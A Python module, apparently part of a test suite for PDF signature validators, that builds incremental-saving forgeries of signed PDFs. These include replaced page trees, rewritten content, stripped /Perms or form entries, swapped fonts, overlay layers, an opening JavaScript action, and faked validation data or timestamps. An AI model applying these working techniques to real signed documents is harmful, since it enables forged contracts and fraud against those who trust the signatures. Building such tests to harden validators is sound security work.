"""Incremental saving (ISA): something is appended behind what is signed. Nothing that is covered changes; what is shown does."""

from __future__ import annotations

import re

from vectors.attacks import bytework, honest, service
from vectors.attacks.bytework import (
    FORGED_WORDS,
    behind,
    body,
    content_number,
    next_number,
    page_number,
    repriced_behind,
    root_number,
    stream,
)
from vectors.attacks.samples import attack

GROUP = "Incremental saving"
OPEN = ("service-bt", "service-p1", "service-p2", "house-sealed")
SHUT = ("service-blta", "house-closed")


def _leaf(contents: int, *, parent: int) -> bytes:
    return b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents %d 0 R >>" % (
        parent,
        contents,
    )


def _tree(pdf: bytes) -> dict[int, bytes]:
    """A page tree of the forger's own, in the place of the signed one."""
    first = next_number(pdf)
    return {2: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % first, first: _leaf(first + 1, parent=2), first + 1: stream(FORGED_WORDS)}


def _objects(held: dict[int, bytes]) -> bytes:
    return b"".join(b"%d 0 obj\n%b\nendobj\n" % (number, one) for number, one in held.items())


@attack(GROUP, *OPEN, *SHUT, "service-bt-packed", "house-closed-packed")
def page_rewritten(pdf: bytes) -> bytes:
    """The page's content anew, with its table and trailer."""
    return repriced_behind(pdf)


@attack(GROUP, *OPEN, *SHUT)
def page_tree_replaced(pdf: bytes) -> bytes:
    """A page tree of the forger's own, with its table and trailer."""
    return behind(pdf, _tree(pdf))


@attack(GROUP, *OPEN, *SHUT)
def objects_only(pdf: bytes) -> bytes:
    """Objects behind the end, with neither table nor trailer."""
    return pdf + _objects(_tree(pdf))


@attack(GROUP, *OPEN, *SHUT)
def objects_and_trailer(pdf: bytes) -> bytes:
    """Objects and a trailer behind the end, without a table; startxref stays as it was."""
    size = next_number(pdf) + 2
    trailer = b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root_number(pdf), bytework.last_table(pdf))
    return pdf + _objects(_tree(pdf)) + trailer


@attack(GROUP, "service-bt", "house-closed")
def trailer_without_previous(pdf: bytes) -> bytes:
    """A whole update whose trailer does not lead back to the signed tables."""
    return pdf + re.sub(rb"/Prev \d+", b"", behind(pdf, _tree(pdf))[len(pdf) :])


@attack(GROUP, "service-bt", "house-closed")
def table_pointing_nowhere(pdf: bytes) -> bytes:
    """Objects and a table that startxref misses by far, so that readers rebuild the file."""
    held = behind(pdf, _tree(pdf))
    return held[: held.rindex(b"startxref")] + b"startxref\n99999999\n%%EOF\n"


@attack(GROUP, "service-bt", "house-closed")
def table_of_zero(pdf: bytes) -> bytes:
    """Objects behind the end and a startxref of zero."""
    return pdf + _objects(_tree(pdf)) + b"startxref\n0\n%%EOF\n"


@attack(GROUP, *OPEN, *SHUT)
def signature_copied(pdf: bytes) -> bytes:
    """A page tree of the forger's own, and the signature dictionary once more behind it, as it was."""
    _name, value = bytework.last_signature(pdf)
    start = pdf.rindex(b"\n%d 0 obj" % value)
    copy = pdf[start + 1 : pdf.index(b"endobj", start)].partition(b"obj\n")[2].rstrip()
    return behind(pdf, {value: copy, **_tree(pdf)})


@attack(GROUP, "service-bt", "house-closed")
def signature_copied_without_table(pdf: bytes) -> bytes:
    """The same without a table: objects, a trailer, and the old startxref."""
    _name, value = bytework.last_signature(pdf)
    start = pdf.rindex(b"\n%d 0 obj" % value)
    copy = pdf[start + 1 : pdf.index(b"endobj", start) + 7]
    trailer = b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        next_number(pdf) + 2, root_number(pdf), bytework.last_table(pdf),
    )  # fmt: skip
    return pdf + _objects(_tree(pdf)) + copy + trailer


@attack(GROUP, *OPEN)
def catalogue_replaced(pdf: bytes) -> bytes:
    """A catalogue that leads to other pages and keeps the form."""
    held = _tree(pdf)
    tree = next_number(pdf) + 3
    held[tree] = held.pop(2)
    held[next_number(pdf)] = _leaf(next_number(pdf) + 1, parent=tree)
    root = root_number(pdf)
    return behind(pdf, {**held, root: re.sub(rb"/Pages \d+ 0 R", b"/Pages %d 0 R" % tree, body(pdf, root))})


@attack(GROUP, "service-p1", "service-p2", "house-sealed")
def permissions_removed(pdf: bytes) -> bytes:
    """The catalogue loses /Perms, so that the certification looks like an approval, and the page is rewritten."""
    root = root_number(pdf)
    return behind(pdf, {root: bytework.without(body(pdf, root), b"/Perms"), content_number(pdf): stream(FORGED_WORDS)})


@attack(GROUP, "service-p1", "service-p2")
def permissions_elsewhere(pdf: bytes) -> bytes:
    """/Perms leads to a signature dictionary of the forger's own that allows everything."""
    root, own = root_number(pdf), next_number(pdf) + 5
    terms = b"/TransformMethod /DocMDP /TransformParams << /Type /TransformParams /P 3 /V /1.2 >>"
    lax = b"<< /Type /Sig /Reference [<< /Type /SigRef %b >>] >>" % terms
    held = bytework.entered(bytework.without(body(pdf, root), b"/Perms"), b"/Perms << /DocMDP %d 0 R >>" % own)
    return behind(pdf, {root: held, own: lax, content_number(pdf): stream(FORGED_WORDS)})


@attack(GROUP, "service-bt", "service-p2", "house-sealed")
def form_removed(pdf: bytes) -> bytes:
    """The catalogue loses its form, so that nothing seems to be signed, and the page is rewritten."""
    root = root_number(pdf)
    return behind(pdf, {root: bytework.without(body(pdf, root), b"/AcroForm"), content_number(pdf): stream(FORGED_WORDS)})


@attack(GROUP, "service-bt", "service-p2", "house-sealed")
def page_added(pdf: bytes) -> bytes:
    """A second page with further terms."""
    first, leaf = next_number(pdf), page_number(pdf)
    tree = b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count 2 >>" % (leaf, first)
    return behind(pdf, {2: tree, first: _leaf(first + 1, parent=2), first + 1: stream(FORGED_WORDS)})


@attack(GROUP, "service-bt", "house-sealed")
def page_cropped(pdf: bytes) -> bytes:
    """A crop box that hides the price."""
    page = page_number(pdf)
    return behind(pdf, {page: bytework.entered(body(pdf, page), b"/CropBox [0 0 595 700]")})


@attack(GROUP, "service-bt", "house-sealed", "service-p2")
def font_replaced(pdf: bytes) -> bytes:
    """Another font under the same number: the same codes, other letters."""
    other = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Type /Encoding /Differences [49 /nine] >> >>"
    return behind(pdf, {5: other})


@attack(GROUP, "service-bt", "service-p2", "house-sealed")
def words_over_the_page(pdf: bytes) -> bytes:
    """The page gets a second stream of content, drawn over the first."""
    page, number = page_number(pdf), next_number(pdf)
    over = b"1 1 1 rg 60 740 400 40 re f 0 g " + FORGED_WORDS
    held = re.sub(rb"/Contents \d+ 0 R", b"/Contents [%d 0 R %d 0 R]" % (content_number(pdf), number), body(pdf, page))
    return behind(pdf, {page: held, number: stream(over)})


@attack(GROUP, "service-bt", "service-blta", "house-closed")
def script_on_opening(pdf: bytes) -> bytes:
    """A script that runs when the file is opened."""
    root = root_number(pdf)
    return behind(pdf, {root: bytework.entered(body(pdf, root), b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")})


@attack(GROUP, "service-bt", "house-closed")
def layers_added(pdf: bytes) -> bytes:
    """Optional content that is laid over the page and can be switched."""
    root, page, number = root_number(pdf), page_number(pdf), next_number(pdf)
    layer = b"<< /Type /OCG /Name (Terms) >>"
    listed = b"/OCProperties << /OCGs [%d 0 R] /D << /ON [%d 0 R] /Order [%d 0 R] >> >>" % (number, number, number)
    over = b"/OC /L BDC 1 1 1 rg 60 740 400 40 re f 0 g " + FORGED_WORDS + b" EMC"
    held = re.sub(rb"/Contents \d+ 0 R", b"/Contents [%d 0 R %d 0 R]" % (content_number(pdf), number + 1), body(pdf, page))
    held = held.replace(b"/Resources <<", b"/Resources << /Properties << /L %d 0 R >>" % number, 1)
    return behind(pdf, {root: bytework.entered(body(pdf, root), listed), number: layer, page: held, number + 1: stream(over)})


@attack(GROUP, "service-bt", "service-p1", "house-sealed")
def content_freed(pdf: bytes) -> bytes:
    """A table that frees the page's content: nothing is shown any more."""
    number = content_number(pdf)
    section = b"xref\n%d 1\n0000000000 00001 f \n" % number
    trailer = b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        next_number(pdf), root_number(pdf), bytework.last_table(pdf), len(pdf),
    )  # fmt: skip
    return pdf + section + trailer


# ------------------------------------------------------------------- made to look like what may follow a signature


@attack(GROUP, "service-bt", "service-p1", "house-sealed")
def validation_data_after(pdf: bytes) -> bytes:
    """The page rewritten, then a harmless store of validation data."""
    return service.with_validation_data(repriced_behind(pdf))


@attack(GROUP, "service-bt", "service-p1", "service-p2", "service-blta", "house-sealed", "house-closed")
def stamped_after(pdf: bytes) -> bytes:
    """The page rewritten, then a document timestamp by an authority that is trusted: anybody can buy one."""
    return service.stamp(repriced_behind(pdf), at=honest.LATER, field="Stamp")


@attack(GROUP, "service-bt", "service-p1", "house-sealed", "house-closed")
def archived_after(pdf: bytes) -> bytes:
    """The page rewritten, then validation data and a document timestamp, as a renewal would have them."""
    return service.stamp(service.with_validation_data(repriced_behind(pdf)), at=honest.LATER, field="Stamp")


@attack(GROUP, "service-bt", "house-interim")
def signed_after(pdf: bytes) -> bytes:
    """The page rewritten, then an honest signature of the next signer, who covers it without having seen the first version."""
    forged = repriced_behind(pdf)
    if b"TachiaiSlot002" in pdf:
        return honest.house().seal(forged, 2)
    return service.sign(forged, field="Signature2", at=honest.LATER)


@attack(GROUP, "service-bt", "service-p1", "house-closed")
def hidden_in_validation_data(pdf: bytes) -> bytes:
    """An update that looks like validation data, and gives the page's content a new place beside it."""
    root, number = root_number(pdf), next_number(pdf)
    held = body(pdf, root)
    held = bytework.without(held, b"/DSS") if b"/DSS" in held else held
    store = b"<< /Type /DSS /Certs [] >>"
    return behind(pdf, {root: bytework.entered(held, b"/DSS %d 0 R" % number), number: store, content_number(pdf): stream(FORGED_WORDS)})
